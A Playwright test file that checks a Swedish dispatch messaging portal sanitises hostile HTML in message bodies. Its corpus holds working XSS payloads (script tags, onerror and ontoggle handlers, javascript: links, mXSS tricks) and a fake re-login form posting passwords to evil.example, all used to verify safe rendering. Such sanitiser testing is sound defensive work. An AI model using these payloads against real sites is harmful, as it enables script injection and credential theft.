import { test, expect, signIn, tokenFor, expectAccessible } from './fixtures';
import { threadRows } from './message-rows';

/** Hostile HTML bodies: each tries to run `__pwned()`, steal a password or cover the page. */
const CORPUS = [
  '<script>__pwned()</script>Skripttagg',
  '<img src=x onerror="__pwned()">Händelseattribut',
  '<a href="javascript:__pwned()">javascript-länk</a>',
  '<a href="jav&#x09;ascript:__pwned()">maskerad javascript-länk</a>',
  '<a href="data:text/html,<script>__pwned()</script>">data-länk</a>',
  '<svg onload="__pwned()"><script>__pwned()</script></svg>SVG',
  '<math><mtext><table><mglyph><style><img src=x onerror="__pwned()">MathML',
  '<noscript><p title="</noscript><img src=x onerror=__pwned()>">mXSS noscript</p></noscript>',
  '<form action="https://evil.example/steal"><p>Logga in igen</p><input type="password" name="p"><button>Logga in</button></form>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Falskt överlägg</div>',
  '<iframe src="javascript:__pwned()"></iframe>Iframe',
  '<img src="https://evil.example/track.png" alt="spårpixel">Fjärrbild',
  '<details open ontoggle="__pwned()"><summary>Detaljer</summary></details>',
  '<p>Vanlig <strong>fetstil</strong> och <a href="https://www.trafikverket.se">säker länk</a></p>',
];

test('hostile message bodies are shown in the list and the thread without running anything', async ({
  page,
}) => {
  test.slow();
  await page.addInitScript(() => {
    (window as unknown as { __pwnedCount: number }).__pwnedCount = 0;
    (window as unknown as { __pwned: () => void }).__pwned = () => {
      (window as unknown as { __pwnedCount: number }).__pwnedCount += 1;
    };
  });
  const remote: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) remote.push(r.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });

  // A thread whose root and updates carry the corpus, sent straight to the msg host.
  await signIn(page, 'dispatcher', '/');
  const headers = { authorization: `Bearer ${tokenFor('dispatcher')}` };
  const send = async (parentID: number, subject: string, body: string) => {
    const response = await page.request.post('/mock/msg/message/Group', {
      headers,
      data: {
        systemId: 2,
        parentID,
        subject,
        body,
        html: true,
        readReceipt: false,
        customData: [{ key: 'districtId', value: 4 }],
        to: [1],
      },
    });
    expect(response.status()).toBe(200);
    return ((await response.json()) as { ID: number }).ID;
  };
  const rootId = await send(1, 'Fientligt innehåll', CORPUS[0]!);
  for (const body of CORPUS.slice(1)) await send(rootId, 'Fientligt innehåll, uppdatering', body);

  await page.goto('/#/message');
  const row = await threadRows(page, /Fientligt innehåll/);
  // The latest body is shown in the list row.
  await expect(row).toContainText('Vanlig fetstil och säker länk');
  await row.getByRole('button', { name: /Visa \d+ uppdateringar av Fientligt innehåll/ }).click();
  for (const text of ['Skripttagg', 'Händelseattribut', 'javascript-länk', 'Falskt överlägg'])
    await expect(row).toContainText(text);
  await expectAccessible(page);

  const checkRendered = async (scope: import('@playwright/test').Locator) => {
    // Everything inside the scope (the bodies with the portal's own time and subject lines).
    const found = await scope.evaluate((root) => {
      const all = (selector: string) => [...root.querySelectorAll(selector)];
      return {
        scripts: all('script, iframe, form, input, svg, math, style').length,
        handlers: all('*').filter((el) =>
          [...el.attributes].some((a) => a.name.startsWith('on') || a.name === 'style'),
        ).length,
        hrefs: all('a[href]').map((a) => a.getAttribute('href')),
        images: all('img[src]').map((i) => i.getAttribute('src')),
      };
    });
    expect(found.scripts).toBe(0);
    expect(found.handlers).toBe(0);
    expect(found.hrefs).toEqual(['https://www.trafikverket.se']);
    expect(found.images).toEqual([]);
  };
  // The row's body cell (its subject link and buttons are the portal's).
  await checkRendered(row.getByRole('cell').filter({ hasText: 'Skripttagg' }));
  // A link in a body opens safely in a new tab.
  await expect(row.getByRole('link', { name: 'säker länk' })).toHaveAttribute(
    'rel',
    'noopener noreferrer',
  );
  // Links that lost their target do nothing when clicked.
  await row.getByText('javascript-länk', { exact: true }).click();

  // The thread, opened to send an update.
  await page.goto(`/#/message/${rootId}`);
  const thread = page.getByRole('region', { name: 'Tråden' });
  await expect(thread).toContainText('mXSS noscript');
  await expect(thread).toContainText('Vanlig fetstil och säker länk');
  await checkRendered(thread);
  await expectAccessible(page);

  expect(
    await page.evaluate(() => (window as unknown as { __pwnedCount: number }).__pwnedCount),
  ).toBe(0);
  expect(dialogs).toEqual([]);
  expect(remote).toEqual([]);
});
